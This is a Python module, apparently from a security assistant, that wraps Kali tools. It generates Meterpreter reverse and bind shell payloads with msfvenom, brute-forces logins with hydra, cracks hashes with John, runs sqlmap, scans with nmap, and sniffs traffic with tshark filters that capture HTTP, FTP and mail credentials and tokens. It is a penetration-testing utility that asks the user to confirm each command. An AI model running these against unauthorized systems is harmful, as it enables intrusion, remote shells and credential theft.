"""
Thin wrappers around Kali command-line tools.

Every tool runs through ``run_cmd(mode="write")`` so the user confirms each
invocation at the terminal; non-interactive sessions are denied.
"""
from __future__ import annotations

import logging
import re
import tempfile
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, List, Optional, Set

import psutil

from utils.runner import failure_reason, have, run_cmd

logger = logging.getLogger(__name__)

WORDLIST_DIR = "/usr/share/wordlists"
DEFAULT_PASSWORD_LIST = f"{WORDLIST_DIR}/rockyou.txt"
DEFAULT_DIR_LIST = f"{WORDLIST_DIR}/dirb/common.txt"
OUTPUT_TAIL = 40

PAYLOADS = {
    ("windows", "reverse"): ("windows/meterpreter/reverse_tcp", "exe"),
    ("windows", "bind"): ("windows/meterpreter/bind_tcp", "exe"),
    ("linux", "reverse"): ("linux/x86/meterpreter/reverse_tcp", "elf"),
    ("linux", "bind"): ("linux/x86/meterpreter/bind_tcp", "elf"),
    ("android", "reverse"): ("android/meterpreter/reverse_tcp", "raw"),
    ("android", "bind"): ("android/meterpreter/bind_tcp", "raw"),
}

# Capture analyses: display filter and the fields printed per packet
TRAFFIC_ANALYSES = {
    "http": ("http.request or http.response",
             ["ip.src", "ip.dst", "http.host", "http.request.method", "http.request.uri", "http.response.code"]),
    "credentials": ('http.authorization or http.request.method == "POST" or '
                    'ftp.request.command == "USER" or ftp.request.command == "PASS" or '
                    'pop.request.command == "PASS" or imap.request contains "LOGIN"',
                    ["ip.src", "ip.dst", "http.host", "http.authorization", "ftp.request.arg"]),
    "dns": ("dns.flags.response == 0", ["ip.src", "dns.qry.name"]),
    "tcp_stream": ("tcp", ["ip.src", "tcp.srcport", "ip.dst", "tcp.dstport", "tcp.len"]),
    "sensitive": ("http", ["ip.src", "http.request.uri", "http.file_data"]),
    "ssl": ("tls.handshake.type == 11", ["ip.src", "ip.dst", "tls.handshake.extensions_server_name"]),
}

SENSITIVE_RE = re.compile(r"(password|passwd|api[_-]?key|secret|token|authorization)\s*[=:]", re.I)

REMOTE_ACCESS_PORTS = {"22": "SSH", "23": "Telnet", "3389": "RDP", "5900": "VNC", "445": "SMB"}
SCAN_FANOUT = 20


def _missing(tool: str, package: str) -> str:
    return f"{tool} is not installed. Install it with: sudo apt install {package}"


def _tail(text: str, n: int = OUTPUT_TAIL) -> str:
    lines = text.strip().splitlines()
    if len(lines) <= n:
        return "\n".join(lines)
    return "\n".join(["…", *lines[-n:]])


def _run_tool(argv: List[str], label: str, timeout: Optional[float] = None) -> str:
    logger.info(f"{label}: {' '.join(argv)}")
    res = run_cmd(argv, mode="write", timeout=timeout)
    if res["rc"] != 0 and not res["stdout"].strip():
        return f"{label} failed: {failure_reason(res)}"
    return f"{label} finished.\n{_tail(res['stdout'])}"


def default_interface() -> Optional[str]:
    stats = psutil.net_if_stats()
    for name, st in stats.items():
        if st.isup and name != "lo" and not name.startswith(("docker", "veth", "br-")):
            return name
    return None


# ---- nmap --------------------------------------------------------------------
def nmap_quick_scan(target: str) -> str:
    if not have("nmap"):
        return _missing("nmap", "nmap")
    return _run_tool(["nmap", "-T4", "-F", target], f"Quick scan of {target}", timeout=600)


def nmap_full_scan(target: str) -> str:
    if not have("nmap"):
        return _missing("nmap", "nmap")
    return _run_tool(["nmap", "-T4", "-p-", "-sV", target], f"Full scan of {target}", timeout=3600)


def nmap_os_detection(target: str) -> str:
    if not have("nmap"):
        return _missing("nmap", "nmap")
    return _run_tool(["sudo", "nmap", "-O", target], f"OS detection on {target}", timeout=900)


# ---- payloads / cracking ------------------------------------------------------
def generate_payload(platform: str, kind: str, lhost: str, lport: str) -> str:
    if not have("msfvenom"):
        return _missing("msfvenom", "metasploit-framework")
    shell = "bind" if "bind" in kind else "reverse"
    payload, fmt = PAYLOADS.get((platform, shell), PAYLOADS[("windows", "reverse")])
    ext = {"exe": "exe", "elf": "elf", "raw": "apk"}[fmt]
    out = Path(tempfile.gettempdir()) / f"payload_{platform}_{shell}_{lport}.{ext}"
    argv = ["msfvenom", "-p", payload, f"LHOST={lhost}", f"LPORT={lport}", "-f", fmt, "-o", str(out)]
    res = run_cmd(argv, mode="write", timeout=300)
    if res["rc"] != 0:
        return f"Payload generation failed: {failure_reason(res)}"
    return f"Payload {payload} written to {out} (LHOST={lhost}, LPORT={lport})"


def crack_password(hash_file: str, wordlist: Optional[str] = None) -> str:
    if not have("john"):
        return _missing("john", "john")
    if not Path(hash_file).expanduser().exists():
        return f"Hash file not found: {hash_file}"
    argv = ["john"]
    if wordlist:
        argv.append(f"--wordlist={wordlist}")
    argv.append(hash_file)
    res = run_cmd(argv, mode="write", timeout=3600)
    if res["rc"] not in (0, 1):
        return f"Password cracking failed: {failure_reason(res)}"
    shown = run_cmd(["john", "--show", hash_file], timeout=60)
    return f"John the Ripper finished.\n{_tail(shown['stdout'] or res['stdout'])}"


# ---- web ---------------------------------------------------------------------
def dir_buster(url: str, wordlist: Optional[str] = None) -> str:
    if not have("gobuster"):
        return _missing("gobuster", "gobuster")
    argv = ["gobuster", "dir", "-u", url, "-w", wordlist or DEFAULT_DIR_LIST, "-q"]
    return _run_tool(argv, f"Directory enumeration of {url}", timeout=1800)


def sqlmap(url: str) -> str:
    if not have("sqlmap"):
        return _missing("sqlmap", "sqlmap")
    return _run_tool(["sqlmap", "-u", url, "--batch", "--level", "1"], f"SQL injection test of {url}",
                     timeout=1800)


def hydra(target: str, service: str, wordlist: Optional[str] = None) -> str:
    if not have("hydra"):
        return _missing("hydra", "hydra")
    argv = ["hydra", "-l", "admin", "-P", wordlist or DEFAULT_PASSWORD_LIST, "-t", "4", target, service]
    return _run_tool(argv, f"Brute force of {service} on {target}", timeout=3600)


# ---- packet capture ------------------------------------------------------------
@dataclass
class NetworkReport:
    interface: str = ""
    total_packets: int = 0
    active_ips: Set[str] = field(default_factory=set)
    ip_traffic: Dict[str, int] = field(default_factory=dict)
    suspicious_findings: List[str] = field(default_factory=list)
    error: str = ""

    @property
    def has_error(self) -> bool:
        return bool(self.error)

    def to_formatted_string(self) -> str:
        lines = ["═" * 55, "NETWORK ANALYSIS REPORT", "═" * 55, ""]
        if self.error:
            lines += [f"ERROR: {self.error}", "═" * 55]
            return "\n".join(lines)
        lines += [f"Interface: {self.interface}",
                  f"Packets captured: {self.total_packets}",
                  f"Active IPs: {len(self.active_ips)}", ""]
        if self.ip_traffic:
            lines.append("TOP TALKERS:")
            for ip, count in sorted(self.ip_traffic.items(), key=lambda kv: kv[1], reverse=True)[:10]:
                lines.append(f"  {ip:<40} {count} packets")
            lines.append("")
        if self.suspicious_findings:
            lines.append("FINDINGS:")
            lines.extend(f"  ⚠️  {f}" for f in self.suspicious_findings)
            lines.append("")
        lines.append("═" * 55)
        return "\n".join(lines)


def _capture(iface: Optional[str], duration: int, dfilter: str, fields: List[str]) -> tuple:
    """Live capture printing ``fields`` per packet. Returns (interface, rows, error)."""
    if not have("tshark"):
        return iface or "", [], _missing("tshark", "tshark")
    iface = iface or default_interface()
    if not iface:
        return "", [], "No active network interface found"
    argv = ["sudo", "tshark", "-i", iface, "-a", f"duration:{int(duration)}", "-l",
            "-Y", dfilter, "-T", "fields", "-E", "separator=\t"]
    for f in fields:
        argv += ["-e", f]
    res = run_cmd(argv, mode="write", timeout=int(duration) + 30)
    if res["rc"] not in (0, 124) and not res["stdout"].strip():
        return iface, [], f"Failed to capture packets ({failure_reason(res)}). Make sure tshark is installed and you have permissions."
    rows = [line.split("\t") for line in res["stdout"].splitlines() if line.strip()]
    return iface, rows, ""


def capture_and_analyze(iface: Optional[str] = None, duration: int = 15, security_scan: bool = False) -> NetworkReport:
    iface, rows, error = _capture(iface, duration, "ip", ["ip.src", "ip.dst", "tcp.dstport"])
    report = NetworkReport(interface=iface, error=error)
    if error:
        return report
    traffic: Counter = Counter()
    fanout: Dict[str, Set[str]] = defaultdict(set)
    remote_hits: Counter = Counter()
    for row in rows:
        src = row[0] if len(row) > 0 else ""
        dst = row[1] if len(row) > 1 else ""
        port = row[2] if len(row) > 2 else ""
        report.total_packets += 1
        for ip in (src, dst):
            if ip:
                report.active_ips.add(ip)
                traffic[ip] += 1
        if src and dst:
            fanout[src].add(dst)
        if port in REMOTE_ACCESS_PORTS:
            remote_hits[(src, REMOTE_ACCESS_PORTS[port])] += 1
    report.ip_traffic = dict(traffic)
    for src, dsts in fanout.items():
        if len(dsts) > SCAN_FANOUT:
            report.suspicious_findings.append(f"{src} contacted {len(dsts)} hosts (possible scan)")
    if security_scan:
        for (src, service), count in remote_hits.items():
            report.suspicious_findings.append(f"{src} made {count} {service} connection attempt(s)")
    return report


def detect_unauthorized_access(iface: Optional[str] = None, duration: int = 15) -> NetworkReport:
    return capture_and_analyze(iface, duration, security_scan=True)


def analyze_traffic(kind: str, iface: Optional[str] = None, duration: int = 15,
                    target_ip: Optional[str] = None) -> str:
    """Run one of the TRAFFIC_ANALYSES captures and return a printable report."""
    dfilter, fields = TRAFFIC_ANALYSES[kind]
    if kind == "tcp_stream" and target_ip:
        dfilter = f"tcp and ip.addr == {target_ip}"
    iface, rows, error = _capture(iface, duration, dfilter, fields)
    if error:
        return f"❌ {error}"
    if kind == "sensitive":
        rows = [r for r in rows if SENSITIVE_RE.search("\t".join(r))]
    header = f"{kind.upper()} ANALYSIS on {iface} ({duration}s): {len(rows)} matching packet(s)"
    body = "\n".join("  " + " | ".join(c for c in r if c) for r in rows[:OUTPUT_TAIL])
    return header + ("\n" + body if body else "")


def extract_http_objects(iface: Optional[str] = None, duration: int = 15) -> str:
    if not have("tshark"):
        return _missing("tshark", "tshark")
    iface = iface or default_interface()
    if not iface:
        return "No active network interface found"
    workdir = Path(tempfile.mkdtemp(prefix="iris_capture_"))
    pcap, export = workdir / "capture.pcap", workdir / "objects"
    export.mkdir()
    res = run_cmd(["sudo", "tshark", "-i", iface, "-a", f"duration:{int(duration)}", "-w", str(pcap)],
                  mode="write", timeout=int(duration) + 30)
    if not pcap.exists():
        return f"Failed to capture packets ({failure_reason(res)})"
    run_cmd(["tshark", "-r", str(pcap), "--export-objects", f"http,{export}"], timeout=120)
    files = sorted(p.name for p in export.iterdir())
    return f"Extracted {len(files)} HTTP object(s) to {export}" + ("\n  " + "\n  ".join(files[:OUTPUT_TAIL]) if files else "")


def network_report(iface: Optional[str] = None) -> str:
    lines = ["NETWORK INTERFACES:"]
    addrs = psutil.net_if_addrs()
    stats = psutil.net_if_stats()
    io = psutil.net_io_counters(pernic=True)
    for name in sorted(addrs):
        if iface and name != iface:
            continue
        st = stats.get(name)
        ips = [a.address for a in addrs[name] if a.family.name in ("AF_INET", "AF_INET6")]
        counters = io.get(name)
        traffic = f"rx {counters.bytes_recv} B / tx {counters.bytes_sent} B" if counters else "no counters"
        lines.append(f"  {name:<12} {'UP' if st and st.isup else 'DOWN':<5} {', '.join(ips) or '-'}  ({traffic})")
    conns = [c for c in psutil.net_connections(kind="inet") if c.status == psutil.CONN_ESTABLISHED]
    lines.append(f"\nEstablished connections: {len(conns)}")
    return "\n".join(lines)


def bug_bounty_scan(iface: Optional[str] = None, duration: int = 15) -> str:
    sections = [network_report(iface)]
    for kind in ("http", "dns", "credentials", "sensitive"):
        sections.append(analyze_traffic(kind, iface, duration))
    return "\n\n".join(sections)
